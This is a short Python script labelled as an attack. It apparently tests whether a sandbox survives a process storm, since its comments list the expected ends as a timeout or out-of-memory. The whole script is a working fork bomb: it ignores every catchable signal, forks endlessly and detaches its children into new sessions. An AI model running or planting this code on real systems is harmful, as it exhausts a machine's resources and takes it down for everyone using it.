# attack: fill the node with processes that outlive their parents, ignore signals and never stop forking
# ends: timedOut or outOfMemory
# (The kernel frees a process that could not start only after a while, and counts its memory until then.)
import os, signal

for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
